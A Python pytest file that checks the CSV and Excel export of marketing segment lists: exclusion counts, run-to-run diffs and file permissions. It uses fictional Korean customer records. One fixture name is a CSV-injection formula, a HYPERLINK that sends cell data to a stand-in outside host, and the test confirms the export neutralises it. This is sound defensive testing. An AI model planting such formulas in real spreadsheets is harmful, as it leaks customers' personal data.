"""Segment lists are written as dbt decided them: the files hold exactly the people with no
exclusion reason, and the manifest counts the others by reason."""

import csv
import datetime as dt
import json
from pathlib import Path

import duckdb
import openpyxl
import pytest
import yaml

from activation.exports import (
    EXCLUSION_REASONS,
    export_manifests,
    export_run_folder,
    write_segment_exports,
)
from activation.segments import SegmentRule
from orchestration.manifest import DBT_PROJECT_DIR
from tests.conftest import duckdb_resources

NOW = dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC)
SMS = SegmentRule("win_back_sms", "윈백", "sms", night_sending=False, blocks=())
EMAIL = SegmentRule("win_back_email", "윈백", "email", night_sending=True, blocks=())
AUDIENCE = """
create schema restricted;
create table restricted.segment_audience as select * from (values
    ('win_back_sms', 'sms', 'k1', '김민준', null, '+821010000001', 'r: 1', null, 'opt_in',
     true, 'Champions', 3, 4, 120000.00::decimal(18, 2)),
    ('win_back_sms', 'sms', 'k2', '=HYPERLINK("http://x.example/?"&B2,"보기")', 'k2@x.kr',
     '+821010000002', 'r: 1', null,
     'recent_buyer_exception', false, 'At Risk', 90, 2, 30000.00),
    ('win_back_sms', 'sms', 'k3', '박지호', null, '+821010000003', 'r: 1', 'suppressed',
     'opt_in', false, null, null, null, null),
    ('win_back_sms', 'sms', 'k4', '최하은', null, null, 'r: 1', 'no_contact', 'opt_in', false,
     null, null, null, null),
    ('win_back_email', 'email', 'k2', '이서연', 'k2@x.kr', '+821010000002', 'r: 2', null,
     'opt_in', true, 'At Risk', 90, 2, 30000.00),
    ('win_back_email', 'email', 'k1', '김민준', 'k1@x.kr', '+821010000001', 'r: 2',
     'no_night_consent', 'opt_in', false, 'Champions', 3, 4, 120000.00)
) t(segment_name, channel, customer_id, customer_name, email, phone_e164, reason,
    exclusion_reason, consent_basis, night_consent, rfm_segment, recency_days, frequency,
    monetary);
create table restricted.suppressed_contact_points as select * from (values
    ('phone', '+821010000003'), ('email', 'gone@x.kr')
) t(contact_type, contact_point);
"""


@pytest.fixture
def restricted_db(tmp_path: Path) -> Path:
    path = tmp_path / "contacts.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute(AUDIENCE)
    return path


def export(restricted_db: Path, exports_dir: Path, run_id: str, now: dt.datetime) -> dict:
    folder = export_run_folder(exports_dir, run_id, now)
    suppression = restricted_db.parent / "suppression.csv"
    return write_segment_exports(
        restricted_db,
        folder,
        run_id,
        "r1",
        [SMS, EMAIL],
        suppression,
        now,
        duckdb_resources(exports_dir.parent),
    )


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_list_holds_who_dbt_cleared_and_the_manifest_counts_the_rest(
    restricted_db: Path, tmp_path: Path
):
    manifest = export(restricted_db, tmp_path / "exports", "run-0001", NOW)
    folder = export_manifests(tmp_path / "exports")[-1].parent

    sms = manifest["segments"]["win_back_sms"]
    assert (sms["members"], sms["people"]) == (4, 2)
    assert sms["excluded"] == dict.fromkeys(EXCLUSION_REASONS, 0) | {
        "suppressed": 1,
        "no_contact": 1,
    }
    rows = read_csv(folder / "win_back_sms.csv")
    # Highest spender first; phones in both forms; the columns of an SMS list.
    assert rows[0] == {
        "name": "김민준",
        "phone_e164": "+821010000001",
        "phone_local": "010-1000-0001",
        "segment": "win_back_sms",
        "reason": "r: 1",
        "rfm_segment": "Champions",
        "recency_days": "3",
        "frequency": "4",
        "monetary": "120000.0",
        "night_consent": "True",
        "consent_basis": "opt_in",
        "customer_id": "k1",
    }
    assert rows[1]["consent_basis"] == "recent_buyer_exception"
    # A name typed as a formula is text in both files, and the manifest says so.
    assert rows[1]["name"] == '\'=HYPERLINK("http://x.example/?"&B2,"보기")'
    assert sms["neutralised_cells"] == 1
    assert manifest["formula_neutralisation"]["rule"] == "OWASP CSV injection"
    email = manifest["segments"]["win_back_email"]
    assert email["night_sending"] is True and email["excluded"]["no_night_consent"] == 1
    assert [r["email"] for r in read_csv(folder / "win_back_email.csv")] == ["k2@x.kr"]
    sheet = openpyxl.load_workbook(folder / "win_back_sms.xlsx").active
    assert sheet["B2"].value == "+821010000001" and sheet["B2"].number_format == "@"
    assert sheet["A3"].data_type == "s" and sheet["A3"].value.startswith("=HYPERLINK(")
    assert manifest["suppression_list"] == {
        "path": str(tmp_path / "suppression.csv"),
        "found": False,
        "entries": 2,
    }
    assert json.loads((folder / "manifest.json").read_text(encoding="utf-8")) == manifest
    assert {p.stat().st_mode & 0o777 for p in folder.iterdir()} == {0o600}


def test_the_next_export_says_who_was_added_and_removed(restricted_db: Path, tmp_path: Path):
    exports_dir = tmp_path / "exports"
    export(restricted_db, exports_dir, "run-0001", NOW)
    with duckdb.connect(str(restricted_db)) as con:
        con.execute(
            "update restricted.segment_audience set exclusion_reason = 'unsubscribed'"
            " where customer_id = 'k2' and segment_name = 'win_back_sms'"
        )
    manifest = export(restricted_db, exports_dir, "run-0002", NOW + dt.timedelta(days=1))

    first, second = (p.parent for p in export_manifests(exports_dir))
    diff = manifest["segments"]["win_back_sms"]["diff"]
    assert diff == {"previous_export": first.name, "added": 0, "removed": 1, "stayed": 1}
    assert read_csv(second / "win_back_sms.removed.csv") == [{"customer_id": "k2"}]


def test_the_exclusion_reasons_are_those_segment_audience_may_give():
    models = yaml.safe_load(
        (DBT_PROJECT_DIR / "models" / "restricted" / "segment_audience.yml").read_text("utf-8")
    )
    [rules] = [t["column_rules"] for t in models["models"][0]["data_tests"] if "column_rules" in t]

    assert tuple(rules["arguments"]["accepted_values"]["exclusion_reason"]) == EXCLUSION_REASONS
